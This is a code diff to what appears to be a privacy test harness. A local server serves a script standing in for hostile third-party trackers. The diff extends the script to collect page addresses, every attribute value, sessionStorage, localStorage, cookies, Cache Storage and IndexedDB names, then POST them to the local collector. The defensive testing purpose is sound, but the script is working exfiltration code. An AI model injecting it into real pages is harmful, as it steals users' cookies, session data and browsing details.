@@ -5,33 +5,53 @@ import type { AddressInfo } from 'node:net'
 export interface HostileMeasurers {
   origin: string
   /** What was sent to them, headers included. */
-  heard: readonly string[]
+  requests: readonly string[]
+  /** What their scripts read of the browser's stores, which say more than addresses. */
+  stored: readonly string[]
   stop: () => Promise<void>
 }
 
 /** Between two looks at the page, ms. */
 const lookEvery = 20
 
-/** Reads every place where a page may find an address, and sends what it has not sent before. */
+/** Reads every place where a page may find an address, and every store, and sends what it has not sent before. */
 const script = `{
-  const told = new Set();
+  const sent = new Set();
   const look = () => {
     const found = [
       location.href, document.URL, document.referrer, document.title, JSON.stringify(history.state),
-      ...performance.getEntriesByType('navigation').map(({ name }) => name),
+      ...performance.getEntries().map(({ name }) => name),
       ...(self.navigation?.entries() ?? []).map(({ url }) => url),
-      ...[...document.querySelectorAll('a')].map(({ href }) => href),
+      ...[...document.querySelectorAll('*')].flatMap(({ attributes }) => [...attributes].map(({ value }) => value)),
       ...Object.entries(sessionStorage).flat(),
-      JSON.stringify(self.dataLayer ?? []),
-    ].filter((one) => one && !told.has(one));
-    for (const one of found) told.add(one);
-    if (found.length > 0) fetch('__ORIGIN__/seen', { method: 'POST', mode: 'no-cors', keepalive: true, body: found.join('\\n') });
+      JSON.stringify(self.dataLayer ?? []), self.name,
+    ];
+    tell('seen', found);
+    tell('stored', [...Object.entries(localStorage).map((entry) => entry.join(' ')), document.cookie]);
   };
+  const tell = (path, found) => {
+    const news = found.filter((one) => one && !sent.has(one));
+    for (const one of news) sent.add(one);
+    const body = news.join('\\n');
+    // the browser refuses to keep a body of 64 kB or more alive
+    for (let at = 0; at < body.length; at += 15000)
+      fetch('__ORIGIN__/' + path, { method: 'POST', mode: 'no-cors', body: body.slice(at, at + 16000) });
+  };
+  const search = async () => {
+    for (const name of await caches.keys()) {
+      const requests = await (await caches.open(name)).keys();
+      tell('stored', requests.map(({ url }) => url));
+    }
+    tell('stored', (await indexedDB.databases()).map((one) => JSON.stringify(one)));
+  };
+  setInterval(search, 500);
+  new PerformanceObserver((list) => tell('seen', list.getEntries().map(({ name }) => name)))
+    .observe({ type: 'resource', buffered: true });
   setInterval(look, ${lookEvery});
   for (const sign of ['popstate', 'hashchange', 'pagehide', 'click']) addEventListener(sign, look, true);
   for (const name of ['pushState', 'replaceState']) {
     const own = history[name].bind(history);
-    history[name] = (state, title, href) => { told.add(''); own(state, title, href); look(); };
+    history[name] = (state, title, href) => { sent.add(''); own(state, title, href); look(); };
   }
   self.navigation?.addEventListener('navigate', ({ destination }) =>
     fetch('__ORIGIN__/seen', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'to ' + destination.url }));
@@ -39,12 +59,14 @@ const script = `{
 }`
 
 export async function startHostileMeasurers(): Promise<HostileMeasurers> {
-  const heard: string[] = []
+  const requests: string[] = []
+  const stored: string[] = []
   let origin = ''
   const server = createServer(async (request, response) => {
     const body: Buffer[] = []
     for await (const chunk of request) body.push(chunk as Buffer)
-    heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}\n${Buffer.concat(body)}`)
+    const line = `${request.method} ${request.url} ${JSON.stringify(request.headers)}\n${Buffer.concat(body)}`
+    ;(request.url === '/stored' ? stored : requests).push(line)
     const isScript = request.method === 'GET'
     response.writeHead(isScript ? 200 : 204, { 'content-type': 'text/javascript' })
     response.end(isScript ? script.replaceAll('__ORIGIN__', origin) : '')
@@ -53,7 +75,8 @@ export async function startHostileMeasurers(): Promise<HostileMeasurers> {
   origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
   return {
     origin,
-    heard,
+    requests,
+    stored,
     stop: () =>
       new Promise((done) => {
         server.closeAllConnections()
